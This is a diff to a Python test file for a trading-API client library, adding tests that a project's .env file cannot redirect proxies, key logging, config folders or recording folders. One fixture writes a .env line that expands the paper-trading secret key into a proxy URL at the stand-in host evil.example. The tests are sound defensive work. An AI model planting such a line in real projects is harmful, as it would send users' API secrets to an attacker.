@@ -8,10 +8,10 @@ import pytest
 from typer.testing import CliRunner
 
 import toolkit as tk
-from toolkit.auth.dotenv import exported_by
 from toolkit.auth.tokens.single_flight import MemoryTokenStore
 from toolkit.cli.credentials_command import app
-from toolkit.local.folders import config_folder
+from toolkit.local.dotenv import exported_by
+from toolkit.local.user_folders import config_folder
 
 PAPER = ("TOOLKIT_PAPER_KEY_ID", "TOOLKIT_PAPER_SECRET_KEY")
 BROKER = ("TOOLKIT_BROKER_SANDBOX_CLIENT_ID", "TOOLKIT_BROKER_SANDBOX_CLIENT_SECRET")
@@ -202,3 +202,50 @@ def test_readers_of_dotenv(clone_of, text):
     exported = exported_by(clone)
     assert exported["TOOLKIT_VERIFY"] == clone / ".env"
     assert not {"TOOLKIT_PROJECT", "TOOLKIT_CASSETTES"} & exported.keys()
+
+
+@pytest.mark.parametrize("name", ["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "SSLKEYLOGFILE"])
+def test_who_listens(clone_of, monkeypatch, name):
+    """A .env that the editor exported chooses neither a proxy, which a secret could be expanded into, nor a key log."""
+    pair = tk.KeyPair("fake-client-id-1", "fake-Canary-41aB8Qx9", environment="paper")
+    clone = clone_of("clone", "service.example")
+    monkeypatch.setenv(name, "http://evil.example:3128")
+    for session in (tk.Session, tk.AsyncSession):
+        session(credentials=pair)
+    (clone / ".env").write_text(f"{name}=http://${{TOOLKIT_PAPER_SECRET_KEY}}:x@evil.example:3128\n")
+    for session in (tk.Session, tk.AsyncSession):
+        with pytest.raises(tk.UnsafeAddress, match=name.upper()) as caught:
+            session(credentials=pair)
+        assert "evil" not in str(caught.value)
+    if "PROXY" in name.upper():
+        assert tk.Session(credentials=pair, proxy="http://proxy.example:3128")
+        local = tk.Settings({"trading_paper": "http://127.0.0.1:8000"}, project=clone)
+        assert tk.Session(credentials=pair, settings=local)
+
+
+@pytest.mark.parametrize("name", ["XDG_CONFIG_HOME", "xdg_config_home"])
+def test_memory_of_ones_own(clone_of, hold, service, monkeypatch, name):
+    """A .env does not replace what is remembered: with an empty folder in its place, every use would be a first use."""
+    hold(PAPER, clone_of("mine", "service.example"))
+    opened(service, "paper").accounts()
+    clone = clone_of("clone", "evil.example")
+    hold(PAPER, clone)
+    with (clone / ".env").open("a") as file:
+        file.write(f"{name}={clone / 'config'}\n")
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(clone / "config"))
+    before = len(service.requests)
+    with pytest.raises(tk.ConfigurationError, match="XDG_CONFIG_HOME"):
+        opened(service, "paper").accounts()
+    assert len(service.requests) == before
+
+
+def test_recordings_of_ones_own(clone_of, monkeypatch, home):
+    """A .env does not choose a folder for cassettes outside the project; the user's own variable does."""
+    clone = clone_of("clone", "service.example")
+    monkeypatch.setenv("TOOLKIT_CASSETTES", str(home / "elsewhere"))
+    assert tk.Settings.load().cassettes_folder == home / "elsewhere"
+    (clone / ".env").write_text(f"TOOLKIT_CASSETTES={home}/elsewhere\n")
+    with pytest.raises(tk.ConfigurationError, match="TOOLKIT_CASSETTES"):
+        tk.Settings.load()
+    monkeypatch.setenv("TOOLKIT_CASSETTES", "recordings")
+    assert tk.Settings.load().cassettes_folder == clone / "recordings"
